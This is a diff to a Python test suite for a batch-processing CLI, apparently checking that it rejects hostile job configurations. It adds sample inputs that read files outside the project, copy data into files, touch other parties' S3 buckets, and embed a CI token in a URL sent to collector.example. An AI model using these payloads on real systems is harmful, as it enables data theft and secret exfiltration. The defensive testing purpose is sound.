@@ -48,6 +48,23 @@ JOBS: dict[str, dict[str, Any]] = {
         "{% endfor %}{% endfor %}" + "{{ 'x' * 10 ** 9 }}",
         "system": "{{ 'x' * 10 ** 9 }}",
     },
+    "a query that reads other files": {
+        "input": {"sql": "select * from read_json('{outside}/secret.jsonl')", "key": ["id"]}
+    },
+    "a query that names another file": {"input": {"sql": "select * from '{outside}/secret.jsonl'", "key": ["id"]}},
+    "a query that copies into a file": {"input": {"sql": "copy (select 1 as id) to 'x.csv'", "key": ["id"]}},
+    "documents by a linked folder": {
+        "input": {"files": "data/folder/*.txt", "format": "document"},
+        "user": [{"document": "row.file"}, {"text": "?"}],
+    },
+    "rows of somebody else's bucket": {"input": {"file": "s3://other/rows.jsonl", "key": ["id"]}},
+    "documents of somebody else's bucket": {"user": [{"document": "s3://other/a.pdf"}, {"text": "?"}]},
+    "the environment in the address of a document": {
+        "user": [{"document": "https://collector.example/{{ env_var('CI_TOKEN') }}.pdf"}, {"text": "?"}]
+    },
+    "answers into somebody else's bucket": {"output": {"file": "s3://other/answers.jsonl"}},
+    "a bucket that begins like an allowed one": {"output": {"file": "s3://own/insight/answers.jsonl"}},
+    "the environment in the address of the answers": {"output": {"file": "s3://own/in/" + ENV + ".jsonl"}},
     "a template that fills the memory": {"user": "{{ ('x' * 10 ** 9) * 10 }}"},
 }
 PROJECT_FILES: dict[str, str] = {
@@ -66,6 +83,7 @@ TARGETS: dict[str, Mapping[str, Any]] = {
     "the key as the state's folder": {"state": f"file:///tmp/{ENV}"},
     "the key as the state's address": {"state": ENV},
     "the key as the outputs' folder": {"outputs": ENV},
+    "the state into somebody else's bucket": {"state": "s3://other/state"},
     "another host behind a harmless one": {"state": "postgresql://me@127.0.0.1/x?host=collector.example"},
 }
 
@@ -86,7 +104,7 @@ def hostile(tmp_path: Path, start_emulator: StartEmulator, monkeypatch: pytest.M
 
 
 def with_secrets(project: ProjectFiles, *words: str) -> Finished:
-    return project.cli(*words, ANTHROPIC_API_KEY=KEY, CI_TOKEN=TOKEN)
+    return project.cli(*words, ANTHROPIC_API_KEY=KEY, CI_TOKEN=TOKEN, BATCHFORGE_ALLOWED_STORES="s3://own/in")
 
 
 def all_secrets() -> list[str]:
